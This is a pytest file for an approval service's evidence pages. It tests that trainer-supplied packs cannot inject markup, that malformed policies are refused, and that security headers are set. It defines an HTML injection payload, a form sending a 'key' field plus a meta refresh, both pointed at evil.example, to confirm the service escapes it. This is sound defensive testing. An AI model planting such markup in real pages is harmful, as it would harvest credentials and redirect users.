"""A trainer writes what approvers see: it cannot act in their browser, and what the service can compute is not the trainer's."""

import json
import re
from contextlib import suppress
from typing import Any

import httpx2
import pytest

from hitl.canonical import canonical
from hitl.errors import InvalidInput
from hitl.learning.promotion_pack import promotion_pack
from hitl.learning.promotion_page import Live
from hitl.quality.learning_curve import learning_curve
from serve_app.api.routes.evidence_pages import render_evidence
from tests.fakes.approvals import served, view
from tests.learning.test_promotion_pack import TERMS, answers, rows
from tests.review_app.conftest import World
from tests.review_app.test_policies import HURRY, propose

INJECTED = (
    '<form action="https://evil.example"><input name=key></form><meta http-equiv=refresh content="0;url=https://evil.example">'
)


MADE = canonical(promotion_pack(rows(), answers(slice(0, 30)), answers(slice(20, 40)), TERMS))


def a_pack() -> dict[str, Any]:
    found: dict[str, Any] = json.loads(MADE)
    return found


def places(value: Any, *path: str | int) -> list[tuple[str | int, ...]]:
    """Every place of a value inside."""
    inside = value.items() if isinstance(value, dict) else enumerate(value[:2]) if isinstance(value, list) else ()
    return [path, *(place for key, each in inside for place in places(each, *path, key))]


def with_value(place: tuple[str | int, ...], value: Any) -> dict[str, Any]:
    pack = inner = a_pack()
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = value
    return pack


async def page_of(world: World, pack: Any) -> httpx2.Response:
    body = {"task": "digits", "digest": "a" * 64, "title": "two", "evidence": {"promotion": pack}}
    asked = await world.call("POST", "/v1/approvals", "trainer", body, idempotency_key="k")
    return await world.call("GET", f"/v1/approvals/{asked.json()['approval_id']}/evidence", "approver")


def rendered(pack: dict[str, Any]) -> str:
    """The page, or nothing where the pack is refused; anything else is a failure of the service."""
    with suppress(InvalidInput):
        return render_evidence("two", "a" * 64, pack, Live())
    return ""


PLACES = [place for place in places(a_pack()) if place]


@pytest.mark.parametrize("odd", [INJECTED, None, 7, [], {}, "x", [INJECTED], {INJECTED: INJECTED}], ids=str)
def test_whatever_a_pack_says_it_is_no_markup_and_no_failure(odd: Any) -> None:
    pages = [rendered(with_value(place, odd)) for place in PLACES]
    assert not any(re.search(r"<(form|meta http|input)", page) for page in pages)


@pytest.mark.parametrize("pack", [{}, {"rows": 1}, {"models": []}, {"comparison": "x", "rows": {"n": 1, "source": "s"}}])
async def test_evidence_that_is_no_pack_is_refused_and_no_failure(world: World, pack: dict[str, Any]) -> None:
    assert (await page_of(world, pack)).status_code == 422


async def test_an_injected_number_of_rows_is_shown_as_text(world: World) -> None:
    page = await page_of(world, with_value(("rows", "n"), INJECTED))
    assert (page.status_code, "<form" in page.text, "&lt;form" in page.text) == (200, False, True)


async def test_the_page_may_send_nothing_and_is_what_it_says(world: World) -> None:
    headers = (await page_of(world, a_pack())).headers
    assert "form-action 'none'" in headers["content-security-policy"]
    assert "base-uri 'none'" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"


async def ask_for_policy(world: World, policy: Any, digest: str, dry_run: Any = None) -> httpx2.Response:
    evidence = {"policy": policy, "dry_run": dry_run}
    body = {"kind": "policy_change", "task": "digits", "title": "Hurry", "digest": digest, "evidence": evidence}
    return await world.call("POST", "/v1/approvals", "trainer", body, idempotency_key="direct")


@pytest.mark.parametrize("policy", [None, "x", {"rules": [{"name": "r", "when": "no such(", "effect": "expert"}]}, {"rules": 1}])
async def test_a_policy_that_does_not_compile_is_refused_by_every_route(world: World, policy: Any) -> None:
    before = await world.state()
    assert (await ask_for_policy(world, policy, "a" * 64)).status_code == 422
    assert await world.state() == before


async def test_a_policy_under_another_digest_is_refused(world: World) -> None:
    before = await world.state()
    assert (await ask_for_policy(world, HURRY, "a" * 64)).status_code == 409
    assert await world.state() == before


async def test_approvers_see_the_dry_run_of_the_service_and_not_a_forged_one(world: World) -> None:
    told = (await propose(world, HURRY)).json()
    await world.call("POST", f"/v1/approvals/{told['approval_id']}/cancel", "trainer", {}, idempotency_key="c")
    first = (await world.call("GET", f"/v1/approvals/{told['approval_id']}", "approver")).json()["approval"]
    direct = await ask_for_policy(world, HURRY, told["version"], {"proposed": "perfect"})
    seen = (await world.call("GET", f"/v1/approvals/{direct.json()['approval_id']}", "approver")).json()["approval"]
    assert seen["evidence"] == first["evidence"]


FIGURES: dict[str, Any] = {
    "candidate": {"accuracy": {"value": 0.9, "n": 10, "interval_95": [0.8, 1.0]}},
    "data": {"rows": 100, "held_out": {"digest": "d"}},
}


@pytest.mark.parametrize("odd", [INJECTED, None, [], {}, [1], {"value": 1}], ids=str)
@pytest.mark.parametrize("place", [place for place in places(FIGURES) if place], ids=str)
def test_figures_of_no_form_are_left_out_of_the_charts(place: tuple[str | int, ...], odd: Any) -> None:
    evidence = inner = json.loads(canonical(FIGURES))
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = odd
    curve = learning_curve([served(approval_id="digits-1")], [view(evidence=evidence)])
    assert all(isinstance(point.value, float) and isinstance(point.held_out, str | None) for point in curve.points)
